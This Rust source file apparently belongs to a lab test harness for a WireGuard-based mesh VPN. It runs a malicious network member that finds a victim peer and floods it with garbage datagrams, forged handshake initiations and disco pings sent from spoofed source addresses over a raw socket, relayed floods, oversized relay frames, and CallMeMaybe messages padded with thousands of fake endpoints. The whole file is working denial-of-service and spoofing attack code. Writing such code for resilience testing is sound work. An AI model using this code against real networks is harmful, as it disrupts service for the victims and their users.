//! A member of the tailnet that means harm: it has keys, and the victim knows it.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use lowroad_wire::{
    control::Node,
    disco::{self, Message, Ping, SharedKey, TxId},
    key::{DiscoPublic, NodePublic},
};
use tokio::net::UdpSocket;

use crate::{
    Args,
    member::Member,
    packets::{self, Spoofer},
    relay_client::RelayClient,
};

/// Of the lab's nodes.
const PORT: u16 = 41_641;

struct Victim {
    key: NodePublic,
    disco: DiscoPublic,
    address: SocketAddrV4,
}

pub async fn run(args: &Args) -> Result<()> {
    let mut member = Member::connect(args.get("server")?, [args.get("seed")?; 32]).await?;
    member.home = args.get("home")?;
    let own_name = args.text("name")?;
    member.join(own_name, args.text("key")?).await?;
    let own: Ipv4Addr = args.get("own")?;
    let endpoint = SocketAddr::from((own, PORT));
    let mut poll = member.poll(own_name, &[endpoint]).await?;
    let name = args.text("victim")?;
    let victim = poll
        .until(|netmap| find(netmap.peers.values().map(|node| &**node), name))
        .await?;
    let attack = args.text("attack")?;
    // Making them takes an emulated CPU longer than sending them.
    let prepared = prepared(attack, &victim, args.get("prepared")?);
    let end = Instant::now() + args.duration()?;
    let sent = match attack {
        // Only to be there, with a home relay that the victim has to use to reach us.
        "nothing" => {
            tokio::time::sleep_until(end.into()).await;
            0
        }
        "garbage" | "initiations" | "own-initiations" | "disco-pings" => {
            datagrams(attack, (&member, own), &victim, &prepared, end).await?
        }
        _ => relayed(attack, &member, &victim, &prepared, end).await?,
    };
    println!("{sent}");
    Ok(())
}

fn find<'a>(mut peers: impl Iterator<Item = &'a Node>, name: &str) -> Option<Victim> {
    let node = peers.find(|node| node.name.split('.').next() == Some(name))?;
    let address = node.endpoints.iter().find_map(|endpoint| match endpoint {
        SocketAddr::V4(address) if address.ip().octets()[0] == 203 => Some(*address),
        _ => None,
    })?;
    Some(Victim {
        key: node.key,
        disco: node.disco_key?,
        address,
    })
}

/// Some thousand packets a second: much for a stranger, little enough for a machine that others use.
struct Pace {
    began: Instant,
    done: u64,
    per_second: u64,
}

impl Pace {
    fn new(per_second: u64) -> Self {
        Self {
            began: Instant::now(),
            done: 0,
            per_second,
        }
    }

    async fn wait(&mut self) {
        self.done += 1;
        let due = self.began + Duration::from_secs_f64(self.done as f64 / self.per_second as f64);
        if due > Instant::now() + Duration::from_millis(2) {
            tokio::time::sleep_until(due.into()).await;
        }
    }
}

async fn datagrams(
    attack: &str,
    (member, own): (&Member, Ipv4Addr),
    victim: &Victim,
    prepared: &[Vec<u8>],
    end: Instant,
) -> Result<u64> {
    let spoofer = Spoofer::open().context("open a raw socket")?;
    let shared = SharedKey::new(&member.disco, &victim.disco);
    let mut pace = Pace::new(if attack == "garbage" { 5000 } else { 2000 });
    let socket = UdpSocket::bind((IpAddr::V4(own), PORT)).await?;
    let real = SocketAddrV4::new(own, PORT);
    let mut again = prepared.iter().cycle().cloned();
    let mut sent = 0;
    while Instant::now() < end {
        let (from, packet) = match attack {
            "garbage" | "initiations" => {
                let packet = again.next().or_else(|| stateless(attack, victim));
                (packets::anybody(), packet.context("a packet")?)
            }
            "own-initiations" => (real, packets::own_initiation(&member.node, &victim.key)?),
            _ => (packets::anybody(), ping(member, &shared)),
        };
        if from == real {
            let to = SocketAddr::V4(victim.address);
            sent += u64::from(socket.send_to(&packet, to).await.is_ok());
        } else {
            spoofer.send(from, victim.address, &packet)?;
            sent += 1;
        }
        pace.wait().await;
    }
    Ok(sent)
}

/// So many packets that may be sent again and again.
fn prepared(attack: &str, victim: &Victim, count: usize) -> Vec<Vec<u8>> {
    (0..count)
        .map_while(|_| stateless(attack, victim))
        .collect()
}

/// A packet of an attack whose packets are random and stand for themselves.
fn stateless(attack: &str, victim: &Victim) -> Option<Vec<u8>> {
    match attack {
        "garbage" | "relayed-garbage" => Some(garbage()),
        "initiations" | "relayed-initiations" => Some(packets::random_initiation(&victim.key)),
        _ => None,
    }
}

/// Something like WireGuard, like disco, like STUN, or like nothing at all.
fn garbage() -> Vec<u8> {
    let length = rand::random_range(0..1200);
    let mut packet: Vec<u8> = (0..length).map(|_| rand::random()).collect();
    let start: &[u8] = match rand::random_range(0..8) {
        0 => &[1, 0, 0, 0],
        1 => &[2, 0, 0, 0],
        2 => &[3, 0, 0, 0],
        3 => &[4, 0, 0, 0],
        4 => &disco::MAGIC,
        5 => &[1, 1, 0, 8, 0x21, 0x12, 0xa4, 0x42],
        _ => &[],
    };
    let start = &start[..start.len().min(packet.len())];
    packet[..start.len()].copy_from_slice(start);
    packet
}

fn ping(member: &Member, shared: &SharedKey) -> Vec<u8> {
    let ping = Message::Ping(Ping {
        tx: TxId(rand::random()),
        node: Some(member.node.public()),
        padding: 0,
    });
    disco::seal(member.disco.public(), shared, rand::random(), &ping)
}

/// As many endpoints as a relay's packet holds; all of the lab's segment, none of them anybody.
fn call_me_maybe(member: &Member, shared: &SharedKey) -> Vec<u8> {
    let endpoints = (0..3500)
        .map(|_| SocketAddr::V4(packets::anybody()))
        .collect();
    let message = Message::CallMeMaybe { endpoints };
    disco::seal(member.disco.public(), shared, rand::random(), &message)
}

async fn relayed(
    attack: &str,
    member: &Member,
    victim: &Victim,
    prepared: &[Vec<u8>],
    end: Instant,
) -> Result<u64> {
    let mut relay = RelayClient::connect(member.server, &member.node).await?;
    let shared = SharedKey::new(&member.disco, &victim.disco);
    let mut pace = Pace::new(if attack == "call-me-maybe" { 50 } else { 2000 });
    let mut again = prepared.iter().cycle().cloned();
    let mut sent = 0;
    while Instant::now() < end {
        let result = match attack {
            "call-me-maybe" => {
                relay
                    .send(&victim.key, &call_me_maybe(member, &shared))
                    .await
            }
            "relayed-pings" => relay.send(&victim.key, &ping(member, &shared)).await,
            "relayed-garbage" | "relayed-initiations" => {
                let packet = again.next().or_else(|| stateless(attack, victim));
                relay.send(&victim.key, &packet.context("a packet")?).await
            }
            // The relay ends the connection each time.
            "oversize" => match relay.send_header(4, 1 << 30).await {
                Ok(()) => relay.write(&[0; 4096]).await,
                Err(error) => Err(error),
            },
            other => bail!("there is no attack {other}"),
        };
        match result {
            Ok(()) => sent += 1,
            Err(_) => relay = RelayClient::connect(member.server, &member.node).await?,
        }
        pace.wait().await;
    }
    Ok(sent)
}
